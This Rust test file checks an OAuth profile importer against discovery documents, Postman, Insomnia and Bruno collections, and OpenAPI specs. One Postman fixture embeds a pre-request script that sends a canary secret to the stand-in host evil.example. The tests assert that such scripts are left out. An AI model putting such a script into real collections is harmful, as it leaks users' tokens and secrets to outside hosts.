//! Documents, collections and exports in the shapes in which other programs write them.

use super::{CANARY, one, read, says, secrets, server};
use crate::profile::{
    AuthMethod, Capture,
    import::{Format, Import, ImportError},
};

#[test]
fn a_discovery_document_is_kept_whole() {
    let text = r#"{ "issuer": "https://id.example/t", "authorization_endpoint": "https://id.example/t/a",
        "token_endpoint": "https://id.example/t/t", "jwks_uri": "https://id.example/t/k",
        "scopes_supported": ["openid"], "x_vendor": { "a": [1] } }"#;
    let imported = one(text);
    let wanted: serde_json::Value = serde_json::from_str(text).unwrap();
    assert_eq!(
        serde_json::Value::from(imported.profile.server.clone()),
        wanted
    );
    assert_eq!(
        (imported.profile.name.as_str(), imported.profile.id.as_str()),
        ("id.example", "id-example")
    );
    assert_eq!(imported.profile.client.client_id, "{client_id}");
    assert!(says(&imported, "no client ID"));
}

fn postman() -> String {
    format!(
        r#"{{ "info": {{ "_postman_id": "0", "name": "Orders",
              "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json" }},
            "item": [
              {{ "name": "Admin", "auth": {{ "type": "oauth2", "oauth2": [
                   {{ "key": "grant_type", "value": "client_credentials", "type": "string" }},
                   {{ "key": "accessTokenUrl", "value": "{{{{base}}}}/token", "type": "string" }},
                   {{ "key": "clientId", "value": "service", "type": "string" }},
                   {{ "key": "clientSecret", "value": "{CANARY}", "type": "string" }},
                   {{ "key": "client_authentication", "value": "body", "type": "string" }} ] }},
                 "item": [ {{ "name": "List", "request": {{ "method": "GET", "url": "https://api.example" }} }} ] }},
              {{ "name": "Mine", "request": {{ "method": "GET", "url": {{ "raw": "https://api.example" }},
                 "auth": {{ "type": "oauth2", "oauth2": [
                   {{ "key": "grant_type", "value": "authorization_code_with_pkce" }},
                   {{ "key": "authUrl", "value": "{{{{base}}}}/authorize" }},
                   {{ "key": "accessTokenUrl", "value": "{{{{base}}}}/token" }},
                   {{ "key": "clientId", "value": "{{{{client}}}}" }},
                   {{ "key": "scope", "value": "openid email" }},
                   {{ "key": "redirect_uri", "value": "https://oauth.pstmn.io/v1/callback" }},
                   {{ "key": "challengeAlgorithm", "value": "S256" }},
                   {{ "key": "state", "value": "{CANARY}" }},
                   {{ "key": "headerPrefix", "value": "Bearer" }},
                   {{ "key": "accessToken", "value": "{CANARY}" }},
                   {{ "key": "authRequestParams", "value": [
                      {{ "key": "audience", "value": "orders", "enabled": true, "send_as": "request_url" }},
                      {{ "key": "api_key", "value": "{CANARY}", "enabled": true }} ], "type": "any" }} ] }} }} }} ],
            "event": [ {{ "listen": "prerequest", "script": {{ "type": "text/javascript",
                "exec": ["pm.sendRequest('https://evil.example/{CANARY}')"] }} }} ],
            "variable": [ {{ "key": "base", "value": "https://id.example" }},
                          {{ "key": "client", "value": "{CANARY}", "type": "secret" }} ] }}"#
    )
}

#[test]
fn a_postman_collection_gives_every_setting_of_its_levels() {
    let import = read(&postman());
    assert_eq!(import.format, Format::PostmanCollection);
    let names: Vec<&str> = import
        .found
        .iter()
        .map(|one| one.profile.name.as_str())
        .collect();
    assert_eq!(names, ["Orders / Admin", "Orders / Mine"]);
    let [admin, mine] = import.found.as_slice() else {
        panic!()
    };
    assert_eq!(server(admin, "token_endpoint"), "https://id.example/token");
    let method = admin.profile.client.token_endpoint_auth_method;
    assert_eq!(method, Some(AuthMethod::ClientSecretPost));
    assert_eq!(
        (admin.grant, secrets(admin)),
        (Some("client_credentials"), vec!["clientSecret"])
    );
    assert_eq!(
        server(mine, "authorization_endpoint"),
        "https://id.example/authorize"
    );
    assert_eq!(mine.profile.client.client_id, "{client}");
    assert_eq!(mine.profile.redirect.capture, Capture::Paste);
    assert_eq!(mine.profile.request.pkce, "S256");
    assert_eq!(
        secrets(mine),
        ["the value of the variable client", "accessToken", "api_key"]
    );
    assert!(says(mine, "1 script was left out") && says(mine, "state was left out"));
    assert_eq!(import.pick("2"), Some(mine));
    assert_eq!(import.pick("Orders / Admin"), Some(admin));
    assert_eq!(import.pick("0"), None);
}

#[test]
fn a_level_above_counts_and_twice_the_same_is_once() {
    let auth = r#""auth": { "type": "oauth2", "oauth2": { "accessTokenUrl": "https://id.example/t",
        "authUrl": "https://id.example/a", "clientId": "c" } }"#;
    let text = format!(
        r#"{{ "info": {{ "name": "C", "schema": "https://schema.getpostman.com/json/collection/v2.0.0/collection.json" }},
             {auth}, "item": [ {{ "name": "a", "request": {{ {auth} }} }} ] }}"#
    );
    assert_eq!(one(&text).profile.name, "C");
}

#[test]
fn insomnia_exports_of_both_versions_are_read() {
    let v4 = format!(
        r#"{{ "_type": "export", "__export_format": 4, "__export_source": "insomnia.desktop.app:v2023.5.8",
            "resources": [
              {{ "_id": "req_1", "_type": "request", "parentId": "wrk_1", "name": "Me", "url": "https://api.example",
                 "preRequestScript": "insomnia.sendRequest('x')",
                 "authentication": {{ "type": "oauth2", "grantType": "authorization_code",
                    "authorizationUrl": "{{{{ _.base }}}}/authorize", "accessTokenUrl": "{{{{ _.base }}}}/token",
                    "clientId": "app", "clientSecret": "{CANARY}", "credentialsInBody": true, "usePkce": true,
                    "scope": "openid", "redirectUrl": "http://localhost:9000/cb", "state": "{CANARY}", "audience": "orders" }} }},
              {{ "_id": "wrk_1", "_type": "workspace", "name": "Shop" }},
              {{ "_id": "env_1", "_type": "environment", "parentId": "wrk_1", "data": {{ "base": "https://id.example", "key": "{CANARY}" }} }} ] }}"#
    );
    let v5 = format!(
        "type: collection.insomnia.rest/5.0\nschema_version: \"5.1\"\nname: Shop\nmeta:\n  id: wrk_1\ncollection:\n  \
         - name: Folder\n    meta:\n      id: fld_1\n    children:\n      - url: https://api.example\n        name: Me\n        \
         method: GET\n        scripts:\n          preRequest: insomnia.sendRequest('x')\n        authentication:\n          \
         type: oauth2\n          grantType: authorization_code\n          authorizationUrl: \"{{{{ _.base }}}}/authorize\"\n          \
         accessTokenUrl: \"{{{{ _.base }}}}/token\"\n          clientId: app\n          clientSecret: {CANARY}\n          \
         credentialsInBody: true\n          usePkce: true\n          scope: openid\n          redirectUrl: http://localhost:9000/cb\n          \
         state: {CANARY}\n          audience: orders\nenvironments:\n  name: Base Environment\n  data:\n    base: https://id.example\n    key: {CANARY}\n"
    );
    for (text, name) in [(v4, "Shop / Me"), (v5, "Shop / Folder / Me")] {
        let imported = one(&text);
        let profile = &imported.profile;
        assert_eq!(profile.name, name);
        assert_eq!(
            server(&imported, "authorization_endpoint"),
            "https://id.example/authorize"
        );
        assert_eq!(
            profile.client.token_endpoint_auth_method,
            Some(AuthMethod::ClientSecretPost)
        );
        assert_eq!(
            (profile.redirect.host.as_str(), profile.redirect.port),
            ("localhost", Some(9000))
        );
        assert_eq!(
            (profile.request.pkce.as_str(), secrets(&imported)),
            ("S256", vec!["clientSecret"])
        );
        assert!(says(&imported, "1 script was left out") && says(&imported, "state was left out"));
    }
}

#[test]
fn bruno_files_and_exports_are_read() {
    let bru = format!(
        "meta {{\n  name: Me\n  type: http\n  seq: 1\n}}\n\nget {{\n  url: {{{{base}}}}/me\n  auth: oauth2\n}}\n\n\
         auth:oauth2 {{\n  grant_type: authorization_code\n  callback_url: http://127.0.0.1:8000/cb\n  \
         authorization_url: {{{{base}}}}/authorize\n  access_token_url: {{{{base}}}}/token\n  client_id: app\n  \
         client_secret: {CANARY}\n  scope: openid\n  state: {CANARY}\n  pkce: true\n  credentials_placement: basic_auth_header\n}}\n\n\
         auth:oauth2:additional_params:auth_req:queryparams {{\n  audience: orders\n  ~off: x\n}}\n\n\
         vars:pre-request {{\n  base: https://id.example\n}}\n\nscript:pre-request {{\n  bru.sendRequest('{CANARY}')\n}}\n"
    );
    let json = format!(
        r#"{{ "name": "Shop", "version": "1", "brunoConfig": {{ "name": "Shop" }},
            "items": [ {{ "type": "http", "name": "Me", "request": {{ "url": "{{{{base}}}}/me",
              "auth": {{ "mode": "oauth2", "oauth2": {{ "grantType": "authorization_code", "callbackUrl": "http://127.0.0.1:8000/cb",
                "authorizationUrl": "{{{{base}}}}/authorize", "accessTokenUrl": "{{{{base}}}}/token", "clientId": "app",
                "clientSecret": "{CANARY}", "scope": "openid", "state": "{CANARY}", "pkce": true, "credentialsPlacement": "basic_auth_header",
                "additionalParameters": {{ "authorization": [
                  {{ "name": "audience", "value": "orders", "sendIn": "queryparams", "enabled": true }} ] }} }} }},
              "script": {{ "req": "bru.sendRequest('x')" }} }} }} ],
            "environments": [ {{ "name": "dev", "variables": [
               {{ "name": "base", "value": "https://id.example", "enabled": true, "secret": false }},
               {{ "name": "s", "value": "{CANARY}", "enabled": true, "secret": true }} ] }} ] }}"#
    );
    for (text, name) in [(bru, "Me"), (json, "Shop / Me")] {
        let imported = one(&text);
        let profile = &imported.profile;
        assert_eq!(profile.name, name);
        assert_eq!(
            server(&imported, "token_endpoint"),
            "https://id.example/token"
        );
        assert_eq!(
            profile.client.token_endpoint_auth_method,
            Some(AuthMethod::ClientSecretBasic)
        );
        assert_eq!(profile.redirect.port, Some(8000));
        let audience = (String::from("audience"), String::from("orders"));
        assert_eq!(profile.request.extra_parameters, [audience]);
        assert_eq!(secrets(&imported), ["client_secret"]);
        assert!(says(&imported, "1 script was left out"));
    }
}

#[test]
fn what_holds_variables_alone_names_what_is_missing() {
    for (text, format) in [
        (
            r#"{ "id": "0", "name": "Dev", "values": [], "_postman_variable_scope": "environment" }"#,
            Format::PostmanEnvironment,
        ),
        (
            r#"{ "version": "1", "name": "Shop", "type": "collection" }"#,
            Format::BrunoConfig,
        ),
        (
            "vars {\n  base: https://id.example\n}\nvars:secret [\n  token\n]\n",
            Format::BruEnvironment,
        ),
    ] {
        let error = Import::read(text.as_bytes()).unwrap_err();
        assert_eq!(error, ImportError::OnlyVariables(format), "{text}");
    }
}

#[test]
fn openapi_and_swagger_give_each_scheme() {
    let yaml = "openapi: 3.0.3\ninfo:\n  title: Orders\n  version: 1.0.0\nservers:\n  - url: https://{tenant}.example/v1\n    \
        variables:\n      tenant:\n        default: api\npaths: {}\ncomponents:\n  securitySchemes:\n    key:\n      type: apiKey\n      \
        in: header\n      name: X-Key\n    login:\n      type: oauth2\n      flows:\n        authorizationCode:\n          \
        authorizationUrl: /oauth/authorize\n          tokenUrl: /oauth/token\n          scopes:\n            read: Read\n            write: Write\n        \
        clientCredentials:\n          tokenUrl: /oauth/token\n          scopes:\n            read: Read\n    oidc:\n      type: openIdConnect\n      \
        openIdConnectUrl: https://id.example/.well-known/openid-configuration\n";
    let import = read(yaml);
    assert_eq!(import.format, Format::OpenApi);
    let [login, oidc] = import.found.as_slice() else {
        panic!("{import:?}")
    };
    assert_eq!(
        server(login, "authorization_endpoint"),
        "https://api.example/oauth/authorize"
    );
    assert_eq!(login.profile.client.scope.as_deref(), Some("read write"));
    assert!(says(login, "there is a flow for client_credentials, too"));
    assert_eq!(oidc.profile.issuer(), Some("https://id.example"));
    assert_eq!(oidc.profile.client.scope.as_deref(), Some("openid"));

    let swagger = one(
        r#"{ "swagger": "2.0", "info": { "title": "Pets" }, "paths": {}, "securityDefinitions": {
            "auth": { "type": "oauth2", "flow": "implicit", "authorizationUrl": "https://id.example/dialog",
                      "scopes": { "read:pets": "read" } } } }"#,
    );
    assert_eq!(
        server(&swagger, "authorization_endpoint"),
        "https://id.example/dialog"
    );
    assert_eq!(swagger.grant, Some("implicit"));
}
